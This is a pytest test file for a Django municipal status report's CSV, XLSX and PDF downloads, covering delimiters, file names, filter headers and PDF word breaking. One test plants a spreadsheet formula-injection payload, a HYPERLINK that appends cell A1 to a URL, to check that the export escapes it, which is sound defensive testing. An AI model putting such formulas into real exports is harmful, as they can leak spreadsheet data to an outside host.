"""The status report's downloads, ready for a meeting: a CSV that German Excel opens by
double click, the filters and the date at the top of the XLSX and the PDF, file names that
say what is in them, and status names the PDF never breaks."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from measures.models import ActionField, Measure, Status
from tests.builders import make_measure
from tests.responses import body

pytestmark = pytest.mark.django_db


def report_url():
    return reverse("measures:status_report")


def download(client, user, **query):
    client.force_login(user)
    return client.get(report_url(), query)


def today():
    return f"{timezone.localdate():%Y-%m-%d}"


# CSV


def test_the_report_csv_is_separated_by_semicolons_with_a_byte_order_mark(client, steering):
    make_measure(title="Sprachcafé; montags und donnerstags", status=Status.PLANNED)
    response = download(client, steering, format="csv")
    content = body(response)
    assert content.startswith("\ufeff".encode())
    text = content.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("Handlungsfeld;Maßnahme;Status;Fortschritt in %;")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert {len(row) for row in rows} == {len(rows[0])}
    assert len(rows) - 1 == Measure.objects.count()
    assert any(row[1] == "Sprachcafé; montags und donnerstags" for row in rows)


def test_the_report_csv_is_streamed_with_rows_read_in_chunks(client, steering, monkeypatch):
    from django.http import StreamingHttpResponse

    from measures import reports

    monkeypatch.setattr(reports, "CSV_CHUNK_ROWS", 2)  # several chunks of the test data
    make_measure(title='=HYPERLINK("https://example.org/?d="&A1;"Klick")', status=Status.IDEA)
    response = download(client, steering, format="csv")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    content = body(response)
    assert content.startswith("\ufeff".encode()) and content.endswith(b"\r\n")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == [
        "Handlungsfeld",
        "Maßnahme",
        "Status",
        "Fortschritt in %",
        "federführend",
        "weitere Handlungsfelder",
        "letzter Fortschritt am",
        "letzter Fortschritt",
        "nächster offener Schritt",
        "Veröffentlichung",
        "zuletzt geändert am",
    ]
    assert len(rows) - 1 == Measure.objects.count()
    assert ['\'=HYPERLINK("https://example.org/?d="&A1;"Klick")'] == [
        row[1] for row in rows if "HYPERLINK" in row[1]
    ]
    # the same order as the report's sections
    titles = [row[1].removeprefix("'") for row in rows[1:]]
    assert titles == [m.title for m in reports.build_status_report().measures]


def test_the_open_data_csv_stays_comma_separated(client):
    response = client.get(reverse("opendata:index"))
    links = [
        line.split('href="')[1].split('"')[0]
        for line in response.content.decode().splitlines()
        if 'href="' in line and ".csv" in line
    ]
    assert links
    data = b"".join(client.get(links[0]).streaming_content).decode("utf-8-sig")
    header = data.splitlines()[0]
    assert "," in header and ";" not in header


# File names


def test_file_names_carry_the_filters_and_the_date(client, steering):
    for extension in ("pdf", "xlsx", "csv"):
        response = download(
            client,
            steering,
            format=extension,
            handlungsfeld="wohnen-und-quartier",
            status=Status.PLANNED,
        )
        assert response["Content-Disposition"] == (
            f'attachment; filename="sachstandsbericht-wohnen-und-quartier-geplant-'
            f'{today()}.{extension}"'
        )


def test_a_file_name_without_filters_carries_the_date_and_a_changed_since_date_too(
    client, steering
):
    response = download(client, steering, format="csv")
    assert f'filename="sachstandsbericht-{today()}.csv"' in response["Content-Disposition"]
    response = download(client, steering, format="csv", geaendert_seit="01.11.2026")
    assert (
        f'filename="sachstandsbericht-geaendert-seit-2026-11-01-{today()}.csv"'
        in response["Content-Disposition"]
    )


# Filters and date at the top


def test_the_first_sheet_of_the_xlsx_names_the_filters_and_the_date(client, steering):
    response = download(
        client, steering, format="xlsx", handlungsfeld="wohnen-und-quartier", status="geplant"
    )
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    summary = book.worksheets[0]
    assert summary.title == "Übersicht"
    top = [summary.cell(row=row, column=1).value or "" for row in range(1, 5)]
    assert top[0].startswith("Sachstandsbericht")
    assert top[1].startswith(f"Stand: {timezone.localdate():%d.%m.%Y}")
    assert top[2] == "Auswahl: Handlungsfeld: Wohnen und Quartier; Status: geplant"
    header = [cell.value for cell in summary[5]]
    assert header == ["Handlungsfeld", *[str(s.label) for s in Status], "gesamt"]
    assert summary.freeze_panes == "A6"
    assert summary.auto_filter.ref.startswith("A5:")
    assert [row[0] for row in summary.iter_rows(min_row=6, values_only=True)] == [
        "Wohnen und Quartier",
        "gesamt",
    ]


def first_page_text(content):
    return " ".join(PdfReader(io.BytesIO(content)).pages[0].extract_text().split())


def test_the_top_of_the_pdf_names_the_filters_and_the_date(client, steering):
    response = download(
        client, steering, format="pdf", handlungsfeld="wohnen-und-quartier", status="geplant"
    )
    text = first_page_text(response.content)
    head = text[: text.index("Maßnahmen je Status und Handlungsfeld")]
    assert f"Stand: {timezone.localdate():%d.%m.%Y}" in head
    assert "Auswahl: Handlungsfeld: Wohnen und Quartier; Status: geplant" in head


# No broken words


def broken_words(content, words):
    """Words of ``words`` that the PDF splits across two lines, with a hyphen or without."""
    found = []
    for page in PdfReader(io.BytesIO(content)).pages:
        lines = [line.strip() for line in page.extract_text().splitlines()]
        for line, following in zip(lines, lines[1:], strict=False):
            for word in words:
                for cut in range(2, len(word) - 1):
                    ends = line.endswith(word[:cut]) or line.endswith(word[:cut] + "-")
                    if ends and following.startswith(word[cut:]):
                        found.append(f"{word[:cut]}|{word[cut:]}")
    return found


def test_no_status_name_or_heading_in_the_pdf_is_broken_inside_a_word(client, steering):
    field = ActionField.objects.get(number=2)
    for status in Status:
        make_measure(title=f"Prüfung {status.label}", status=status, action_field=field)
    response = download(client, steering, format="pdf", handlungsfeld=field.slug)
    words = {word for status in Status for word in str(status.label).split() if len(word) > 3}
    words |= {"Fortschritt", "federführend"}
    assert broken_words(response.content, words) == []
    # the whole report: the action fields' names in the summary's first column too
    fields = {w for f in ActionField.objects.all() for w in f.title.split() if len(w) > 3}
    response = download(client, steering, format="pdf")
    assert broken_words(response.content, words | fields) == []


def test_every_status_fits_on_one_line_of_the_measure_tables_status_column():
    from reportlab.platypus import Paragraph

    from measures import report_pdf

    report_pdf.register_fonts()
    style = report_pdf.styles()["cell"]
    inner = report_pdf.status_column_width(style) - 6  # the cell's padding, 3 pt each side
    for status in Status:
        paragraph = Paragraph(str(status.label), style)
        paragraph.wrap(inner, 1000)
        assert len(paragraph.blPara.lines) == 1, status.label


def test_the_report_knows_its_file_name_without_a_request():
    from measures.reports import ReportFilters, build_status_report

    now = timezone.make_aware(datetime.datetime(2026, 11, 30, 12, 0))
    report = build_status_report(
        ReportFilters(action_field=ActionField.objects.get(number=5), status=Status.PLANNED),
        now=now,
    )
    assert report.filename("pdf") == "sachstandsbericht-wohnen-und-quartier-geplant-2026-11-30.pdf"
